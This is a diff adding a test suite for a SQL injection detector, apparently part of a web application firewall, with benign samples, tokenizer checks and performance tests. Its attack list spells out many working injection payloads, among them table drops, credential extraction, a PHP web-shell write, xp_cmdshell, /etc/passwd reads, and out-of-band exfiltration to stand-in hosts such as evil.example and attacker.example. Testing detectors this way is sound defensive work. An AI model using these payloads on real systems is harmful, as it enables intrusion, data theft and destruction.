@@ -1,0 +1,408 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import type { DetectorContext, Finding, Paranoia } from '../../finding.ts';
+import { sqliDetector } from './sqli.ts';
+import { tokenize } from './sql-tokenizer.ts';
+
+function ctx(paranoia: Paranoia): DetectorContext {
+  return { source: 'query', name: 'q', isName: false, paranoia, layers: [] };
+}
+
+function findings(value: string, paranoia: Paranoia = 3): Finding[] {
+  const out: Finding[] = [];
+  sqliDetector.detect(value, ctx(paranoia), (f) => out.push(f));
+  return out;
+}
+
+/** The anomaly score of one value at `paranoia`, as the engine adds it up: each rule once, at its best score. */
+function score(value: string, paranoia: Paranoia): number {
+  return total(findings(value, paranoia));
+}
+
+function total(found: readonly Finding[]): number {
+  const byRule = new Map<string, number>();
+  for (const f of found) byRule.set(f.ruleId, Math.max(byRule.get(f.ruleId) ?? 0, f.score));
+  let sum = 0;
+  for (const v of byRule.values()) sum += v;
+  return sum;
+}
+
+// [value, paranoia at which it must block on its own, rule expected among the findings]
+const ATTACKS: Array<[string, Paranoia, string]> = [
+  // Tautologies and contradictions after every kind of break-out.
+  ['1 OR 1=1', 1, 'sqli-tautology'],
+  ['1 or 2>1', 1, 'sqli-tautology'],
+  ['5 || 3=3', 1, 'sqli-tautology'],
+  ["' OR 'x'='x", 1, 'sqli-tautology'],
+  ["' or ''='", 1, 'sqli-tautology'],
+  ["x' OR 'a' LIKE 'a", 1, 'sqli-tautology'],
+  ["admin' or 1=1 -- ", 1, 'sqli-tautology'],
+  ["admin'/**/oR/**/1/**/=/**/1#", 1, 'sqli-tautology'],
+  ['" or "z"="z', 1, 'sqli-tautology'],
+  ["') or ('p'='p", 1, 'sqli-tautology'],
+  ['1) OR (7=7', 1, 'sqli-tautology'],
+  ['1)) or ((2=2', 1, 'sqli-tautology'],
+  ["' OR 3 BETWEEN 1 AND 5--", 1, 'sqli-tautology'],
+  ["' or 'abc' IS NOT NULL--", 1, 'sqli-tautology'],
+  ["' or true--", 1, 'sqli-tautology'],
+  ["admin' or 1#", 1, 'sqli-tautology'],
+  ["admin' || 1=1#", 1, 'sqli-tautology'],
+  ["nobody' and 2=3 --", 1, 'sqli-tautology'],
+  ['0 xor 1=1', 1, 'sqli-tautology'],
+  ['-5 OR 8 = 8', 1, 'sqli-tautology'],
+  ['or 4=4', 1, 'sqli-tautology'],
+  ["' OR JSON_EXTRACT('{\"k\": 4}', '$.k') = 4 -- ", 1, 'sqli-tautology'],
+  ["' OR ASCII('a') = 97 --", 1, 'sqli-tautology'],
+  ["' OR 'k' RLIKE 'k", 1, 'sqli-tautology'],
+  ["' or username=username--", 1, 'sqli-tautology'],
+  ["1'||'a'='a", 1, 'sqli-tautology'],
+  ["O\\'Hara' OR 5=5 -- ", 1, 'sqli-tautology'],
+  ['1/*foo*/OR/*bar*/1=1', 1, 'sqli-tautology'],
+  ['1\nor\n1=1', 1, 'sqli-tautology'],
+  ["'\toR\t'a'='a", 1, 'sqli-tautology'],
+  ['1\u000bor\u000b1=1', 1, 'sqli-tautology'],
+  ['1 /*!OR*/ 2=2', 1, 'sqli-tautology'],
+  ['9 or /* hint */ true', 1, 'sqli-tautology'],
+  ['1 and 1=cast(version() as int)', 1, 'sqli-tautology'],
+  // JSON operators (PostgreSQL, MySQL).
+  ["1 AND '{\"q\":1}'::jsonb @> '{\"q\":1}'::jsonb", 1, 'sqli-json'],
+  ["' or '[1,2]'::jsonb ? '1' --", 1, 'sqli-json'],
+  ["-1' OR JSON_LENGTH('[1]') = 1 #", 1, 'sqli-tautology'],
+  // Conditions for blind extraction.
+  ["' AND SUBSTRING((SELECT pass FROM accounts LIMIT 1),1,1)='q", 1, 'sqli-boolean'],
+  ['1 AND ASCII(SUBSTR((SELECT user()),1,1))>64', 1, 'sqli-boolean'],
+  ["' and (select count(*) from members) > 0 --", 1, 'sqli-boolean'],
+  ["x' AND EXISTS(SELECT 1 FROM staff WHERE id=1) AND 'y'='y", 1, 'sqli-boolean'],
+  ['3 AND LENGTH(database())=8', 1, 'sqli-boolean'],
+  ["jane' and email like '%", 1, 'sqli-boolean'],
+  ["me@site.example' and passwd glob 'a*", 1, 'sqli-boolean'],
+  ["x'+(SELECT TOP 1 name FROM logins)+'", 1, 'sqli-boolean'],
+  // UNION.
+  ['1 UNION SELECT null, version()--', 1, 'sqli-union'],
+  ['-7 union all select 1,2,3,group_concat(name) from sqlite_master--', 1, 'sqli-union'],
+  ["' UnIoN SeLeCt username, password FROM logins--", 1, 'sqli-union'],
+  ["'/**/union/**/select/**/1,2,3#", 1, 'sqli-union'],
+  ['/*!50000UNION*/ /*!50000SELECT*/ 1,2', 1, 'sqli-union'],
+  ['1 union distinct select @@version', 1, 'sqli-union'],
+  ["') union (select 1, table_name from information_schema.tables)--", 1, 'sqli-union'],
+  ['0 UNION SELECT * FROM secrets', 1, 'sqli-union'],
+  ['9e0union select 1', 1, 'sqli-union'],
+  ["x' union values (1, 'a')--", 2, 'sqli-union'],
+  // Stacked statements.
+  ['1; DROP TABLE accounts--', 1, 'sqli-stacked'],
+  ["'; DELETE FROM orders WHERE 1=1; --", 1, 'sqli-stacked'],
+  ["x'; INSERT INTO admins (name) VALUES ('eve')--", 1, 'sqli-stacked'],
+  ["1; UPDATE members SET role='admin' WHERE id=4", 1, 'sqli-stacked'],
+  ['1;SHUTDOWN WITH NOWAIT', 1, 'sqli-stacked'],
+  ["'; TRUNCATE TABLE logs;--", 1, 'sqli-stacked'],
+  ["';select name from accts--", 1, 'sqli-stacked'],
+  ['1; DECLARE @cmd varchar(80); SET @cmd = 0x77686f616d69; EXEC(@cmd)', 1, 'sqli-stacked'],
+  ["9; ALTER USER sa WITH PASSWORD = 'x'", 1, 'sqli-stacked'],
+  ['7; GRANT ALL PRIVILEGES ON *.* TO mallory', 1, 'sqli-stacked'],
+  // Time delays.
+  ['1 AND SLEEP(6)', 1, 'sqli-time'],
+  ["' OR BENCHMARK(9000000,SHA1('x'))#", 1, 'sqli-time'],
+  ["1;WAITFOR DELAY '00:00:07'--", 1, 'sqli-time'],
+  ["' || pg_sleep(5) || '", 1, 'sqli-time'],
+  ["1 AND 4242=DBMS_PIPE.RECEIVE_MESSAGE('q',8)", 1, 'sqli-time'],
+  ['if(1=1,sleep(3),0)', 1, 'sqli-time'],
+  ['(SELECT * FROM (SELECT(SLEEP(4)))abc)', 1, 'sqli-time'],
+  ['sleep(12)', 1, 'sqli-time'],
+  ['SlEeP/**/(7)', 1, 'sqli-time'],
+  // Error-based.
+  ["' AND EXTRACTVALUE(7,CONCAT(0x5c,(SELECT version())))--", 1, 'sqli-error-based'],
+  ['1 AND UPDATEXML(null,CONCAT(0x3a,user()),null)', 1, 'sqli-error-based'],
+  ['1 and exp(~(select * from (select user())x))', 1, 'sqli-error-based'],
+  ["' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--", 1, 'sqli-boolean'],
+  ['1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)', 1, 'sqli-catalog'],
+  ['(SELECT password FROM users LIMIT 1)::int', 1, 'sqli-cast'],
+  ["1 AND 1=(SELECT name_const(version(),1))", 1, 'sqli-error-based'],
+  // Files, commands, out of band.
+  ["' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/s.php'--", 1, 'sqli-file'],
+  ["1 union select load_file('/etc/passwd')", 1, 'sqli-file'],
+  ["'; exec xp_cmdshell 'ping 10.0.0.1'--", 1, 'sqli-exec'],
+  ["1; COPY (SELECT '') TO PROGRAM 'id'", 1, 'sqli-stacked'],
+  ["' AND UTL_HTTP.REQUEST('http://evil.example/'||(SELECT user FROM dual)) IS NOT NULL--", 1, 'sqli-out-of-band'],
+  ["1;EXEC master.dbo.xp_dirtree '\\\\attacker.example\\x'", 1, 'sqli-out-of-band'],
+  ["LOAD DATA INFILE '/etc/hosts' INTO TABLE t", 1, 'sqli-file'],
+  ["1 AND lo_import('/etc/passwd') > 0", 1, 'sqli-file'],
+  // System catalogs.
+  ['information_schema.columns', 1, 'sqli-catalog'],
+  ['1 union select table_name from information_schema.tables', 1, 'sqli-catalog'],
+  ["' and (select count(*) from sqlite_master)>0--", 1, 'sqli-catalog'],
+  ['select * from pg_catalog.pg_tables', 1, 'sqli-catalog'],
+  ['master..sysdatabases', 1, 'sqli-catalog'],
+  ['mysql.user', 1, 'sqli-catalog'],
+  // Comments that cut the query after a break-out.
+  ["admin'--", 1, 'sqli-comment-cut'],
+  ["admin' #", 1, 'sqli-comment-cut'],
+  ["superuser')-- -", 1, 'sqli-comment-cut'],
+  ["root'/*", 1, 'sqli-comment-cut'],
+  ['alice";--', 1, 'sqli-comment-cut'],
+  // Column-count probing.
+  ['1 ORDER BY 9--', 1, 'sqli-order-probe'],
+  ["' ORDER BY 3#", 1, 'sqli-order-probe'],
+  ["1' GROUP BY 1,2,3-- -", 1, 'sqli-order-probe'],
+  // Whole statements and system variables (weaker on their own).
+  ['SELECT * FROM users WHERE id = 1; --', 1, 'sqli-statement'],
+  ['DROP TABLE customers;', 1, 'sqli-statement'],
+  ['SELECT name FROM staff WHERE salary > 1000', 2, 'sqli-statement'],
+  ['@@version', 2, 'sqli-info'],
+  ['concat(0x7e,version())', 2, 'sqli-function'],
+  ['char(115,101,108,101,99,116)', 3, 'sqli-function'],
+  ['declare @v int', 1, 'sqli-stacked'],
+];
+
+const BENIGN: string[] = [
+  'Select your size from the list',
+  'union of workers',
+  "I'd like 1 or 2",
+  "O'Reilly",
+  "Tom's diner -- best in town",
+  'drop shipping',
+  'Union Station',
+  'union station',
+  '1=1 pairing',
+  "O'Brien",
+  "It's 5 o'clock somewhere",
+  "rock 'n' roll",
+  '"Hello," she said, "or else."',
+  "Ben & Jerry's",
+  'C:\\Program Files\\App',
+  'https://example.com/search?q=select+from&page=2',
+  'https://shop.example/items?id=10&sort=price&order=desc',
+  'john.doe@example.com',
+  'Meeting at 10:30; bring notes',
+  'Price: $5 -- limited offer!',
+  '#hashtag and more',
+  'Rating: 4/5 (would buy again)',
+  'user(s) must sign in',
+  '## Heading\n\n* item one\n* item two\n\n`code` and **bold**',
+  'function f(a, b) { return a == 1 || b; }',
+  'if (x && y) { sleep(500); }',
+  'const q = items.filter((i) => i.price > 10 && i.stock != 0).map((i) => i.name);',
+  'def wait():\n    time.sleep(5)\n    return True',
+  'Thread.sleep(1000);',
+  '{"query":"shoes","filter":{"size":[42,43]}}',
+  'Order by date (newest first)',
+  '1 or 2 tickets please',
+  'between 1 and 10',
+  'you & me || nobody',
+  'Hi team,\n\nPlease select the option from the drop-down and click save; then update the record.\n\nThanks,\nBob',
+  'Solid oak drop-leaf table, seats 4-6. Union-made in Ohio. Select options below.',
+  'where is the nearest union bank',
+  'insert coin',
+  'delete account',
+  'update firmware',
+  'sleep apnea (obstructive)',
+  'benchmark results for 2024',
+  'report_2024-01-01.pdf',
+  'my--file.txt',
+  'SELECT',
+  "O'Neil's \"best\" or worst? -- you decide",
+  "I'll be there at 5 o'clock or 6",
+  '{"a": "b", "c": 1}',
+  'x = a || b',
+  'count(*) of items',
+  "It's my parents' house",
+  "d'Artagnan and the 3 musketeers",
+  "Rock'n'roll -- all night long",
+  "l'or et l'argent",
+  '5\' 11" tall',
+  'He said "yes" or "no"',
+  '-- Comment line',
+  'a=1&b=2',
+  'ORDER #12345',
+  'Case when you need it',
+  '#1 or #2',
+  '10% off -- today only!',
+  "print('hello world')",
+  'exec summary',
+  'Go to settings; select the Privacy tab',
+  'I would like to request a random number between 1 and 10, please.',
+  'If the subject parameter is greater than 0, then return a list of all articles.',
+  'and =IS=C5HF95_=',
+  'john+or@var.es',
+  "D'or 1st parfume",
+  'DEAR FINN,--I think it would do; copy should reach us second post',
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
+  'en-US,en;q=0.9,fr;q=0.8',
+  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
+  'session=abc123; theme=dark; lang=en',
+  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.dGVzdC0tc2lnbmF0dXJl',
+  '2024-05-01T10:00:00Z',
+  '+1 (555) 010-9999',
+  'The SQL keyword SELECT retrieves rows; UNION merges two result sets.',
+  'He had to choose: either or neither.',
+  "We're open Mon-Fri 9-5; closed on holidays (except Dec 24)",
+  'Set the value to 1 or higher',
+  'Delete from cart',
+  'drop table lamp, walnut',
+  'group by 3',
+  'the users\' table and the admins\' table',
+  'Are you sure? Yes/No',
+  "Paste 'SELECT 1' into the console",
+  'He ran "SELECT * FROM users" and got 3 rows',
+  'Hello; update me when it ships',
+  'a.sleep(5)',
+  'md5(password) is not secure',
+  '3 or 4 people, maybe 5',
+  'cats and dogs = love',
+  'sin(x) + cos(y)',
+];
+
+test('attack samples are detected at the expected paranoia level and block on their own', () => {
+  const failures: string[] = [];
+  for (const [value, paranoia, rule] of ATTACKS) {
+    const found = findings(value, paranoia);
+    const sum = total(found);
+    if (!found.some((f) => f.ruleId === rule && f.paranoia <= paranoia)) {
+      failures.push(`${JSON.stringify(value)}: expected ${rule} at PL${paranoia}, got ${found.map((f) => `${f.ruleId}/PL${f.paranoia}`).join(' ') || 'nothing'}`);
+    } else if (sum < 5 && rule !== 'sqli-function' && rule !== 'sqli-info') {
+      failures.push(`${JSON.stringify(value)}: score ${sum} at PL${paranoia} does not block`);
+    }
+    for (const f of found) {
+      assert.equal(f.category, 'sqli');
+      assert.ok(f.matched.length <= 120, `excerpt too long for ${value}`);
+      assert.ok(f.ruleId.startsWith('sqli-'));
+      assert.ok(f.paranoia >= 1 && f.paranoia <= 3);
+    }
+  }
+  assert.deepEqual(failures, []);
+});
+
+test('benign samples produce no finding at paranoia 1', () => {
+  const failures: string[] = [];
+  for (const value of BENIGN) {
+    const found = findings(value, 1);
+    if (found.length > 0) failures.push(`${JSON.stringify(value)}: ${found.map((f) => `${f.ruleId}/${f.score}`).join(' ')}`);
+  }
+  assert.deepEqual(failures, []);
+});
+
+test('benign samples that fire at paranoia 2 or 3 stay below the blocking threshold at paranoia 2, except those listed', () => {
+  // Documented paranoia-2 false positives: SQL-looking phrases that a stricter level is meant to catch.
+  const knownAtPl2 = new Set(['drop table lamp, walnut', 'Paste \'SELECT 1\' into the console', 'Delete from cart',
+    'if (x && y) { sleep(500); }']);
+  const failures: string[] = [];
+  for (const value of BENIGN) {
+    if (knownAtPl2.has(value)) continue;
+    const total = score(value, 2);
+    if (total >= 5) failures.push(`${JSON.stringify(value)}: ${findings(value, 2).map((f) => `${f.ruleId}/PL${f.paranoia}/${f.score}`).join(' ')}`);
+  }
+  assert.deepEqual(failures, []);
+});
+
+test('findings respect the paranoia level in force', () => {
+  // sqli-info is paranoia 2 for a critical score, a warning at paranoia 1.
+  const pl1 = findings('@@version', 1);
+  assert.ok(pl1.every((f) => f.paranoia === 1 && f.score < 5));
+  const pl2 = findings('@@version', 2);
+  assert.ok(pl2.some((f) => f.score === 5));
+  assert.deepEqual(findings("I'd like 1 or 2", 3).filter((f) => f.paranoia === 1), []);
+});
+
+test('per rule, the best finding of each paranoia level, highest score first', () => {
+  // @@version: a warning at paranoia 1, critical at paranoia 2.
+  const found = findings('@@version', 2).filter((f) => f.ruleId === 'sqli-info');
+  assert.deepEqual(found.map((f) => [f.paranoia, f.score]), [[2, 5], [1, 3]]);
+  // A critical finding at paranoia 1 makes the paranoia-2 one redundant.
+  const tautology = findings('1 or 1=1', 3).filter((f) => f.ruleId === 'sqli-tautology');
+  assert.deepEqual(tautology.map((f) => [f.paranoia, f.score]), [[1, 5]]);
+});
+
+test('one finding per rule, with a bounded excerpt around the match', () => {
+  const value = `${'x'.repeat(500)}' UNION SELECT 1,2,3 -- ${'y'.repeat(500)}`;
+  const found = findings(value, 1);
+  const ids = found.map((f) => f.ruleId);
+  assert.equal(new Set(ids).size, ids.length);
+  const union = found.find((f) => f.ruleId === 'sqli-union');
+  assert.ok(union !== undefined);
+  assert.ok(union.matched.includes('UNION SELECT'));
+  assert.ok(union.matched.length <= 120);
+});
+
+test('the tokenizer reads SQL lexical tricks', () => {
+  const kinds = (s: string) => tokenize(s).map((t) => `${t.k}:${t.k === 'word' || t.k === 'op' || t.k === 'var' ? t.w : s.slice(t.s, t.e)}`);
+  assert.deepEqual(kinds("/*!50000UnIoN*/ SELECT 0x41,'a''b',\"c\\\"d\",`e`"), [
+    'word:union', 'word:select', 'num:0x41', ',:,', "str:'a''b'", ',:,', 'str:"c\\"d"', ',:,', 'qid:`e`',
+  ]);
+  assert.deepEqual(kinds('1union--x\n@@version #c'), ['num:1', 'word:union', 'comment:--x', 'var:@@version', 'comment:#c']);
+  assert.deepEqual(kinds("a<=>b||c::int @> '{}' ->> 'k'"), [
+    'word:a', 'op:<=>', 'word:b', 'op:||', 'word:c', 'op:::', 'word:int', 'op:@>', "str:'{}'", 'op:->>', "str:'k'",
+  ]);
+  assert.deepEqual(kinds("N'x' _utf8'y' 1.e(2) .5e-3"), ["str:N'x'", "str:_utf8'y'", 'num:1.e', '(:(', 'num:2', '):)', 'num:.5e-3']);
+  const open = tokenize("'abc");
+  assert.equal(open.length, 1);
+  assert.equal(open[0]!.open, true);
+  const unterminated = tokenize('a /* never closed');
+  assert.equal(unterminated[1]!.k, 'comment');
+  assert.equal(unterminated[1]!.open, true);
+});
+
+test('never throws, on random bytes, huge repeats and unbalanced input', () => {
+  let seed = 12345;
+  const rand = () => {
+    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+    return seed;
+  };
+  const alphabet = "'\"`()[]{};,.-#/*!@:=<>|&^~+%\\$ \n\tabcSELECTunionOR019xX_";
+  for (let n = 0; n < 400; n++) {
+    const len = rand() % 300;
+    let s = '';
+    for (let i = 0; i < len; i++) {
+      s += rand() % 4 === 0 ? String.fromCharCode(rand() % 0x2fff) : alphabet[rand() % alphabet.length];
+    }
+    assert.doesNotThrow(() => findings(s, 3));
+  }
+  const nasty = [
+    "'".repeat(5000), '"'.repeat(5001), '('.repeat(20_000), ')'.repeat(20_000), '/*'.repeat(5000), '*/'.repeat(5000),
+    '/*!'.repeat(5000), '--'.repeat(5000), 'select '.repeat(5000), 'union select '.repeat(3000), 'sleep('.repeat(5000),
+    "' or '".repeat(3000), '1 or 1=1 '.repeat(3000), '@@'.repeat(5000), '\\'.repeat(5000), '\u0000'.repeat(1000),
+    '\ud800'.repeat(1000), 'case when '.repeat(3000), 'concat(0x41,'.repeat(4000), '(select '.repeat(4000),
+    'a.'.repeat(10_000), '::int'.repeat(5000), '; drop table x'.repeat(2000), '$$'.repeat(5000), 'x IN ('.repeat(5000),
+  ];
+  for (const s of nasty) assert.doesNotThrow(() => findings(s, 3), s.slice(0, 20));
+});
+
+test('runs in linear time: 200 KB of prose and of pathological input each well under 50 ms', () => {
+  const prose = "It's a truth universally acknowledged, that a single man (in possession of a good fortune) must be in want " +
+    'of a wife; however little known the feelings or views of such a man may be on his first entering a neighbourhood, ' +
+    'this truth is so well fixed in the minds of the surrounding families, that he is considered the rightful ' +
+    '"property" of some one or other of their daughters -- 1 or 2 of them at least. Select your size from the list. ';
+  const cases: Record<string, string> = {
+    prose: prose.repeat(Math.ceil(200_000 / prose.length)).slice(0, 200_000),
+    words: 'or and select from '.repeat(10_000),
+    parens: '(('.repeat(50_000),
+    sleeps: 'sleep('.repeat(33_000),
+    unions: 'union select 1,'.repeat(13_000),
+    stacked: ';select 1 from t where a='.repeat(8000),
+    quotes: "a' or '".repeat(28_000),
+    calls: 'concat(substr(ascii(x),1),'.repeat(8000),
+    comments: '/**/'.repeat(50_000),
+  };
+  // CPU time of this process (other processes on a shared machine do not count), best of five runs.
+  const cpuMs = (run: () => void): number => {
+    let best = Infinity;
+    for (let i = 0; i < 5; i++) {
+      const before = process.cpuUsage();
+      run();
+      const used = process.cpuUsage(before);
+      best = Math.min(best, (used.user + used.system) / 1000);
+    }
+    return best;
+  };
+  for (const [name, value] of Object.entries(cases)) {
+    findings(value, 3); // warm up
+    const ms = cpuMs(() => findings(value, 3));
+    assert.ok(ms < 50, `${name}: ${ms.toFixed(1)} ms for ${value.length} chars`);
+  }
+  // 10 KB of ordinary text: well under a millisecond.
+  const ten = prose.repeat(Math.ceil(10_240 / prose.length)).slice(0, 10_240);
+  for (let i = 0; i < 50; i++) findings(ten, 3);
+  const avg = cpuMs(() => {
+    for (let i = 0; i < 100; i++) findings(ten, 3);
+  }) / 100;
+  assert.ok(avg < 1, `10 KB prose: ${avg.toFixed(3)} ms`);
+});
